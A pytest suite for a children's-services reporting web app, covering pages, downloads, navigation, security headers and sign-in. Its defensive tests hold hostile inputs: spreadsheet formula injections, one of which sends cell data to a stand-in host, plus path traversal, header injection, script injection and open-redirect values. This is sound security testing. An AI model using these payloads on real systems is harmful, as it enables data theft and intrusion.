"""The pages themselves: what they say, what they hand out, and what they keep out."""

from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest

from fingerpost.render.delimited import read_csv
from fingerpost.web.models import ROLES
from pages import addresses, browser

PASSWORD = "four-plain-words-for-tests"


@pytest.fixture
def analyst(site):
    return site.as_role("analyst")


def test_the_overview_has_the_reports_figures_by_stage(analyst, demo_workspace):
    page = analyst.get("/overview?period=2013-14-Q2").content.decode()
    for figure in demo_workspace.figures("2013-14-Q2", [each.id for each in demo_workspace.catalogue.reported()]):
        text = figure.text if not figure.is_share else f"{figure.percent}%"
        assert (text if figure.missing is None else "Not available") in page, figure.measure
    assert [page.index(f'id="{stage}"') for stage in ("input", "process", "output")] == sorted(
        page.index(f'id="{stage}"') for stage in ("input", "process", "output")
    )
    assert "Improving" in page
    assert "Worsening" in page


def test_another_period_and_extract_are_asked_for_in_the_address(analyst, demo_workspace):
    page = analyst.get("/measure/referrals_no_further_action?period=2013-14-Q1&extract=2013-06-30").content.decode()
    (figure,) = demo_workspace.figures(
        "2013-14-Q1", ["referrals_no_further_action"], extract=demo_workspace.loads()[0].extract
    )
    assert f"{figure.percent}%" in page
    assert "extract of 30 June 2013" in page


def test_a_group_of_children_is_asked_for_in_the_address(analyst, demo_workspace):
    page = analyst.get("/measure/contacts?age=1+to+4").content.decode()
    assert '<span class="fp-value">436</span>' in page
    assert "All children: <strong>1,642</strong>" in page


@pytest.mark.parametrize(
    ("address", "says"),
    [
        ("/measure/contact", "Did you mean contacts?"),
        ("/overview?period=2013-14-Q9", "Write a quarter as 2013-14-Q2"),
        ("/overview?extract=2013-01-01", "There is no extract of 1 January 2013"),
        ("/overview?extract=soon", "There is no extract of"),
        ("/measure/contacts?by=shoes", "has no breakdown by"),
        ("/measure/contacts/records?part=half", "There is no part"),
        ("/measures/sideways", "There is no stage"),
        ("/nowhere", "There is no page at this address"),
    ],
)
def test_what_is_not_there_is_said_in_words(analyst, address, says):
    response = analyst.get(address)
    assert response.status_code == 404
    assert says in response.content.decode()


def test_every_measure_has_a_page_whatever_it_lacks(analyst, demo_workspace):
    for measure in list(demo_workspace.catalogue)[::6]:
        response = analyst.get(f"/measure/{measure}")
        assert response.status_code == 200, measure
        assert len(response.content) < 80_000, f"{measure} is {len(response.content):,} bytes"


def test_a_page_with_all_that_it_loads_is_under_200_kb(analyst):
    from wsgiref.util import setup_testing_defaults

    from fingerpost.web.assets import Assets
    from fingerpost.web.settings import STATIC

    served = {}

    def sent(address):
        environ = {"PATH_INFO": address, "HTTP_ACCEPT_ENCODING": "gzip, br"}
        setup_testing_defaults(environ)
        body = b"".join(
            Assets(lambda *_: [], STATIC)(environ, lambda status, headers: served.update({address: status}))
        )
        assert served.get(address) == "200 OK", address
        return len(body)

    page = analyst.get("/measure/contacts").content
    loaded = re.findall(r'(?:href|src)="(/static/[^"?]+)', page.decode())
    assert len(loaded) == 3
    assert len(page) + sum(map(sent, loaded)) < 200_000


@pytest.mark.parametrize(
    "address", ["/static/../settings.py", "/static/licences/htmx.txt", "/static/", "/static/%2e%2e"]
)
def test_no_other_file_is_handed_out(address):
    from fingerpost.web.assets import Assets
    from fingerpost.web.settings import STATIC

    passed_on = Assets(lambda *_: [b"passed on"], STATIC)(
        {"PATH_INFO": address, "REQUEST_METHOD": "GET"}, lambda *_: None
    )
    assert b"".join(passed_on) == b"passed on"


def test_the_list_is_the_figure_and_its_file_has_all_of_it(analyst, demo_workspace):
    page = analyst.get("/measure/contacts/records?page=2").content.decode()
    assert "<strong>1,642</strong>" in page
    assert "Page 2 of 33" in page
    rows = read_csv(analyst.get("/measure/contacts/records.csv").content)
    assert len(rows) == 1 + 1642
    assert rows[0] == demo_workspace.list("contacts", "2013-14-Q2").columns


@pytest.mark.parametrize("table", ["months", "breakdown", "change"])
def test_tables_are_handed_out_as_csv_and_as_excel_with_the_same_rows(analyst, table):
    from openpyxl import load_workbook

    rows = read_csv(analyst.get(f"/measure/contacts/{table}.csv").content)
    sheet = load_workbook(io.BytesIO(analyst.get(f"/measure/contacts/{table}.xlsx").content)).active
    found = list(sheet.iter_rows(min_row=5, values_only=True))
    assert [cell for cell in found[0] if cell] == list(rows[0])
    assert len(found) == len(rows)


def test_no_text_in_a_download_can_run():
    from openpyxl import load_workbook

    from fingerpost.model import Listing
    from fingerpost.web.tables import download

    hostile = ('=HYPERLINK("http://x/?"&A1,"ok")', "+1+1", "-1+1", "@SUM(1)", "\t=1", "{=1+1}")
    listing = Listing("=1+1", ("text",), tuple((each,) for each in hostile))
    lines = download(listing, "x", "csv").content.decode().splitlines()[1:]
    assert all(line.strip('"').startswith(("'", "{")) for line in lines)
    sheet = load_workbook(io.BytesIO(download(listing, "x", "xlsx").content)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}


def test_a_file_name_cannot_break_out_of_its_header():
    from fingerpost.model import Listing
    from fingerpost.web.tables import download

    response = download(Listing("", ("a",), ()), 'x"\r\nSet-Cookie: a=b', "csv")
    assert response["Content-Disposition"] == 'attachment; filename="x---Set-Cookie--a-b.csv"'


def test_every_page_keeps_the_headers_and_asks_nothing_of_elsewhere(site):
    for role in ("", *ROLES):
        for page, address in addresses().items():
            if page == "sign-out":
                continue
            response = site.as_role(role).get(address)
            assert "default-src 'none'" in response["Content-Security-Policy"], page
            rest = response["Content-Security-Policy"]
            if page in ("report-read", "published-file"):
                rest = rest.replace("style-src 'unsafe-inline';", "")  # a report is one file, its styles in it
                assert rest.endswith("sandbox") or "script-src 'self'" in rest
            assert "unsafe" not in rest
            assert response["Cache-Control"] == ("private, no-cache" if page == "api" else "no-store")
            assert response["X-Content-Type-Options"] == "nosniff"
            if response["Content-Type"].startswith("text/html") and page not in ("report-read", "report-file"):
                text = response.content.decode()
                assert not re.search(r'(src|href|action)="(https?:)?//', text), page
                assert not re.search(r"<script(?![^>]*src=)|\son\w+=|style=", text), page


def test_text_is_never_markup(analyst):
    page = analyst.get('/search?q="><script>alert(1)</script>').content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;" in page


def test_search_finds_a_measure_by_words_in_any_order(analyst):
    page = analyst.get("/search?q=assessments initial").content.decode()
    assert "initial_assessments_in_10_working_days" in page
    assert "No measure has all of these words" in analyst.get("/search?q=xyzzy").content.decode()


def heads(page):
    """The rows of a page's head: for each its label, and (address, aria-current) of its links."""
    navs = re.findall(r'<nav class="fp-nav[^"]*" aria-label="([^"]+)">(.*?)</nav>', page, re.S)
    return {label: re.findall(r'<a href="([^"]+)"(?: aria-current="(\w+)")?>', links) for label, links in navs}


def test_the_navigation_leads_only_where_one_may_go(site):
    for role in ROLES:
        client = site.as_role(role)
        sections = heads(client.get("/account").content.decode())["Sections"]
        assert 2 <= len(sections) <= 6, "few enough for a row"
        for address, here in sections:
            assert here == ""
            page = client.get(address)
            assert page.status_code == 200, f"{role}: {address}"
            for row in heads(page.content.decode()).values():
                assert [where for where, here in row if here == "page"] in ([], [address])
                assert [client.get(where).status_code for where, _ in row] == [200] * len(row)


def test_each_page_is_in_a_section_which_says_so(site):
    """Where one is: 'page' on its own entry, 'true' on its section; a page without an entry is within one."""
    from fingerpost.web.access import ACCESS
    from fingerpost.web.navigation import SECTIONS

    about = {"sign-in", "sign-in-code", "sign-out", "sso", "sso-back", "api", "health", "home", "account", "password",
             "second-factor", "tokens"}  # fmt: skip
    own = [name for each in SECTIONS for name in (*(page for page, _ in each.pages), *each.within)]
    pages = {name for name in ACCESS if not name.endswith(("-file", "-ics"))} - about
    assert sorted(own) == sorted(pages - {"report-read"}), "in one section each; a report's own page has no head"
    for name in sorted(pages - {"report-read", "report-sign", "find-child"}):
        role = next(role for role in ROLES if role in ACCESS[name])
        rows = heads(site.as_role(role).get(addresses()[name]).content.decode())
        marked = [here for row in rows.values() for _, here in row if here]
        assert marked in (["true", "page"], ["true"], ["page"]), name


def test_a_councillor_sees_the_entries_of_a_section_that_they_may_open_and_no_other(site):
    rows = heads(site.as_role("councillor").get("/risks").content.decode())
    assert [address for address, _ in rows["Clinic, risks and money"]] == ["/risks", "/finance"]
    assert "/workload" not in {address for address, _ in rows["Sections"]}


# --- signing in ---


def with_password(role):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.get(role=role)
    user.set_password(PASSWORD)
    user.save()
    return user


def tried(client, name, password, wanted=""):
    return client.post("/sign-in", {"username": name, "password": password, "next": wanted})


def test_signing_in_leads_where_one_wanted_to_go_with_a_new_session(site):
    user, client = with_password("councillor"), browser()
    client.get("/sign-in")
    response = tried(client, user.username, PASSWORD, "/measure/contacts?period=2013-14-Q1")
    assert response["Location"] == "/measure/contacts?period=2013-14-Q1"
    key = client.session.session_key
    client.post("/sign-out")
    assert client.get("/overview").status_code == 302
    tried(client, user.username, PASSWORD)
    assert client.session.session_key != key
    assert [each.kind for each in site.audit()[-3:]] == ["sign-in", "sign-out", "sign-in"]


@pytest.mark.parametrize("wanted", ["https://example.com/", "//example.com", "javascript:alert(1)", "\\\\example.com"])
def test_signing_in_leads_to_no_other_site(site, wanted):
    user, client = with_password("auditor"), browser()
    assert tried(client, user.username, PASSWORD, wanted)["Location"] == "/"


def test_a_form_without_its_token_changes_nothing(site):
    user, client = with_password("councillor"), browser(enforce_csrf_checks=True)
    response = tried(client, user.username, PASSWORD)
    assert response.status_code == 403
    assert "The form could not be accepted" in response.content.decode()


def test_five_failures_lock_the_name_with_the_same_words_for_unknown_names(site):
    from axes.utils import reset

    user = with_password("head of service")
    answers = {}
    for name in (user.username, "nobody.at.all"):
        client = browser()
        answers[name] = [tried(client, name, "wrong").status_code for _ in range(6)]
        answers[name].append(re.sub(r"csrf\w+", "", tried(client, name, PASSWORD).content.decode()).count("Too many"))
    reset()
    assert answers[user.username] == answers["nobody.at.all"]
    assert answers[user.username][4:] == [429, 429, 2]
    assert tried(browser(), user.username, PASSWORD).status_code == 302


def test_a_session_ends_when_nobody_is_there_and_after_a_day(site, monkeypatch):
    from django.utils import timezone

    from fingerpost.web.settings import IDLE, LONGEST

    real = timezone.now
    for steps, ended in (
        ([IDLE - timedelta(minutes=1)] * 3, False),
        ([IDLE + timedelta(minutes=1)], True),
        ([IDLE - timedelta(minutes=1)] * (LONGEST // (IDLE - timedelta(minutes=1)) + 1), True),
    ):
        client, passed = site.as_role("councillor"), timedelta()
        assert client.get("/account").status_code == 200
        for step in steps:
            passed += step
            monkeypatch.setattr(timezone, "now", lambda passed=passed: real() + passed)
            last = client.get("/account").status_code
        monkeypatch.setattr(timezone, "now", real)
        assert last == (302 if ended else 200), steps


def test_a_fault_of_ours_says_so_and_logs_no_value(site, monkeypatch, caplog):
    import logging

    from fingerpost.web.views import catalogue

    def fails(*_):
        raise ValueError("Secret Child")

    monkeypatch.setattr(catalogue, "workspace_of", fails)
    monkeypatch.setattr(logging.getLogger("fingerpost"), "propagate", True)
    response = site.as_role("analyst").get("/definitions")
    assert response.status_code == 500
    number = re.search(r"Number: <strong>(\w+)</strong>", response.content.decode()).group(1)
    assert number in caplog.text
    assert "Secret" not in caplog.text + response.content.decode()
